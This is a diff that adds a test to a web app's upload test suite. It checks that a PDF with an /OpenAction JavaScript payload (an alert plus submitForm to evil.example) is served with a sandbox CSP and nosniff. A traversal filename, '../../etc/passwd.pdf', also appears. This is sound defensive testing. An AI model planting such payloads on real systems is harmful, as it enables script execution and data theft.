@@ -429,6 +429,34 @@ describe('files that lie about their type or their name', () => {
 		expect(served.headers.get('Content-Disposition')).toBe('inline; filename="chart.png"')
 	})
 
+	test('a PDF whose /OpenAction runs JavaScript is served inline only inside a CSP sandbox, with nosniff', async () => {
+		const { cookie } = await admin()
+		const { id: courseId } = await course()
+		const scripted = Buffer.from(
+			'%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n' +
+				'2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
+				'3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n' +
+				"4 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example'\\)) >>\nendobj\n" +
+				'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
+		)
+		const response = await callRoute(
+			uploadsAction,
+			uploadRequest(cookie, [
+				...target(courseId, 1, 'Intro'),
+				{ name: 'materialFiles', file: { name: 'handout.pdf', bytes: scripted, type: 'application/pdf' } },
+			]),
+		)
+		expect(response.status).toBe(302)
+		const [week] = await weeksOf(courseId)
+		const [item] = await itemsOf(week!.id)
+		const served = await callRoute(materialFileLoader, getRequest(`/files/materials/${item!.id}`, { cookie }), { itemId: String(item!.id) })
+		expect(served.status).toBe(200)
+		expect(served.headers.get('Content-Type')).toBe('application/pdf')
+		expect(served.headers.get('Content-Disposition')).toBe('inline; filename="handout.pdf"')
+		expect(served.headers.get('Content-Security-Policy')).toBe('sandbox')
+		expect(served.headers.get('X-Content-Type-Options')).toBe('nosniff')
+	})
+
 	test.each([
 		['a ../ path', '../../etc/passwd.pdf', 'passwd.pdf', 'passwd.pdf'],
 		// Browsers send backslashes as they are and a double quote as %22 (as FormData does here).
